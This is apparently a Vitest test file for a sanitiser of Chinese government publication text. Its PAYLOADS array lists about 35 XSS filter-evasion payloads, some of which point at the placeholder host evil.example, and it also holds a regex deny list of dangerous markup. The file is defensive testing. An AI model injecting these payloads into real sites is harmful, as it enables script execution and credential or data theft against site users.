import { describe, expect, it } from 'vitest';
import { plainText, sanitizeBody, textToHtml } from './sanitize.ts';

/** XSS payloads (OWASP filter-evasion cheat sheet and old government-site imports). */
const PAYLOADS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">点我</p>',
  '<a href="javascript:alert(1)">链接</a>',
  '<a href="JaVaScRiPt:alert(1)">链接</a>',
  '<a href="jav&#x09;ascript:alert(1)">链接</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>body{background:red}</style>',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=q><button>提交</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<a href="//evil.example">协议相对</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
];

const DANGEROUS = [/<script/i, /onerror/i, /onload/i, /onclick/i, /ontoggle/i, /javascript:/i, /vbscript:/i, /data:/i, /expression\(/i, /<style/i, /<svg/i, /<iframe/i, /<object/i, /<embed/i, /<form/i, /<meta/i, /<base/i, /<link/i, /<img/i, /style=/i, /srcdoc/i, /href="\/\//i];

describe('publication body sanitiser', () => {
  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const out = sanitizeBody(`<p>正文</p>${payload}`);
    for (const re of DANGEROUS) expect(out, `${payload} → ${out}`).not.toMatch(re);
    expect(out).toContain('<p>正文</p>');
  });

  it('keeps the structure a government document needs', () => {
    const input = '<h1>总则</h1><p>第一条　为了<strong>规范</strong>管理，制定本办法。</p><ol><li>一</li></ol><table><tr><th scope="col">项目</th></tr><tr><td colspan="2">金额</td></tr></table><p><a href="https://www.gov.cn/zhengce/">国务院政策</a></p>';
    const out = sanitizeBody(input);
    expect(out).toContain('<h2>总则</h2>');
    expect(out).toContain('<strong>规范</strong>');
    expect(out).toContain('<th scope="col">项目</th>');
    expect(out).toContain('<td colspan="2">金额</td>');
    expect(out).toContain('<a href="https://www.gov.cn/zhengce/" rel="noopener noreferrer">国务院政策</a>');
  });

  it('gives plain text for search, without markup or script text', () => {
    const text = plainText('<p>第一条&nbsp;总则</p><script>var secret=1</script><p>第二条 &lt;附则&gt;</p><style>p{}</style>');
    expect(text).toBe('第一条 总则\n第二条 <附则>');
  });

  it('turns typed plain text into escaped paragraphs', () => {
    expect(textToHtml('第一段 <b>\n\n第二段')).toBe('<p>第一段 &lt;b&gt;</p><p>第二段</p>');
  });
});
